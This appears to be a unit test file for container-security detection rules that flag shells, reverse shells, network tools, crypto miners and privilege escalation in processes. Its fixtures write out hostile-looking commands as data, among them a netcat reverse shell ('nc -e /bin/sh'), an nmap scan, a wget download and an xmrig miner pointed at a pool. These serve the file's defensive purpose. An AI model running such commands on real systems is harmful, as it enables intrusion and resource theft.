// Each exec detection fires on its scenario and stays quiet on a container's normal process.
import t from 'tap';
import { detectAll } from '../../../collectors/process/detections/index.js';
import type { ExecSubject } from '../../../collectors/process/detections/detector.js';
import type { ExecEvent } from '../../../collectors/process/sources/exec-source.js';
import type { ContainerRecord } from '../../../collectors/runtime/inventory.js';

const container = { id: 'c'.repeat(64), name: 'app', namespace: 'kube-system', pod: 'coredns-1', podUid: 'u', pid: 10, origin: 'cri' } as ContainerRecord;

function subject(argv: string[], over: Partial<ExecEvent> = {}, s: Partial<ExecSubject> = {}): ExecSubject {
  const exe = over.exe ?? (argv[0]!.startsWith('/') ? argv[0]! : `/usr/bin/${argv[0]}`);
  const exec: ExecEvent = {
    source: 'audit', timeUnixNano: 0n, pid: 100, ppid: 10, uid: 0, euid: 0, gid: 0, egid: 0, auid: 4294967295,
    exe, comm: exe.split('/').pop()!.slice(0, 15), argv, argvTruncated: false, argvMissing: false, cwd: '/', success: true,
    cgroup: null, startTime: 1n, ...over,
  };
  return {
    exec, name: argv[0]!.split('/').pop()!, exeName: exe.split('/').pop()!, containerId: container.id, container,
    inContainer: true, isContainerInit: false, parent: undefined, binaryDrift: () => false, ...s,
  };
}
const rules = (s: ExecSubject) => detectAll(s).map((d) => d.ruleId);

t.test('a shell in a container', async (t) => {
  t.same(rules(subject(['sh', '-c', 'id'], { exe: '/bin/busybox' })), ['exec-shell-in-container'], 'busybox acting as sh counts');
  t.same(rules(subject(['sh', '-c', 'id'], {}, { isContainerInit: true })), [], "the container's own entrypoint is expected");
  t.same(rules(subject(['sh'], {}, { inContainer: false, containerId: null, container: null })), [], 'a host shell is not a container shell');
});

t.test('package managers, network tools and downloaders', async (t) => {
  t.same(rules(subject(['apt-get', 'install', 'nmap'])), ['exec-package-manager-in-container']);
  t.same(rules(subject(['apk', 'add', 'curl'])), ['exec-package-manager-in-container']);
  t.same(rules(subject(['nc', '-e', '/bin/sh', '10.0.0.1', '4444'])), ['exec-network-tool-in-container']);
  const scan = detectAll(subject(['nmap', '-sS', '10.0.0.0/24']));
  t.same(scan[0]?.mitre, ['T1046'], 'scanning is T1046');
  t.same(rules(subject(['wget', 'http://x/y'])), ['exec-network-tool-in-container']);
});

t.test('crypto miners by name and by pool arguments', async (t) => {
  t.ok(rules(subject(['xmrig', '-o', 'pool:3333'])).includes('exec-crypto-miner'));
  t.ok(rules(subject(['/opt/app/worker', '--url', 'stratum+tcp://pool.example:4444'])).includes('exec-crypto-miner'));
  t.same(rules(subject(['/usr/local/bin/coredns', '-conf', '/etc/coredns/Corefile'])), [], 'a normal process is quiet');
});

t.test('execution from a writable path', async (t) => {
  t.same(rules(subject(['/tmp/x'], { exe: '/tmp/x' })), ['exec-from-writable-path']);
  t.same(rules(subject(['/dev/shm/.k'], { exe: '/dev/shm/.k' })), ['exec-from-writable-path']);
  t.same(rules(subject(['/usr/bin/id'])), []);
});

t.test('a binary not part of the image', async (t) => {
  t.same(rules(subject(['/usr/bin/tool'], {}, { binaryDrift: () => true })), ['exec-binary-not-in-image']);
  t.same(rules(subject(['/usr/bin/tool'], {}, { binaryDrift: () => null })), [], 'unknown is not a detection');
});

t.test('a reverse shell: a shell whose stdin or stdout is a socket', async (t) => {
  t.ok(rules(subject(['sh', '-i'], { stdio: { stdin: 'socket:[1234]', stdout: 'socket:[1234]' } })).includes('exec-reverse-shell'));
  t.notOk(rules(subject(['sh', '-i'], { stdio: { stdin: '/dev/pts/0', stdout: '/dev/pts/0' } })).includes('exec-reverse-shell'));
});

t.test('kubectl, crictl and ctr inside a container', async (t) => {
  for (const tool of ['kubectl', 'crictl', 'ctr']) {
    t.same(rules(subject([tool, 'get', 'pods'])), ['exec-container-admin-tool-in-container'], tool);
  }
});

t.test('effective uid 0 under a non-root user or parent', async (t) => {
  t.same(rules(subject(['/usr/bin/passwd'], { uid: 1000, euid: 0 })), ['exec-privilege-escalation']);
  t.same(rules(subject(['/usr/bin/id'], { uid: 0, euid: 0 }, { parent: { pid: 10, ppid: 1, startTime: 0n, exe: '/bin/app', comm: 'app', argv: [], uid: 1000, euid: 1000, containerId: null, cgroupPath: '' } })),
    ['exec-privilege-escalation'], 'root child of a non-root parent');
  t.same(rules(subject(['/usr/bin/id'], { uid: 1000, euid: 1000 })), [], 'a non-root process is quiet');
  t.same(rules(subject(['/usr/bin/id'], { uid: 0, euid: 0 }, { parent: { pid: 10, ppid: 1, startTime: 0n, exe: '/x', comm: 'x', argv: [], uid: 4294967295, euid: 4294967295, containerId: null, cgroupPath: '' } })),
    [], 'a parent whose ids are unknown proves nothing');
});
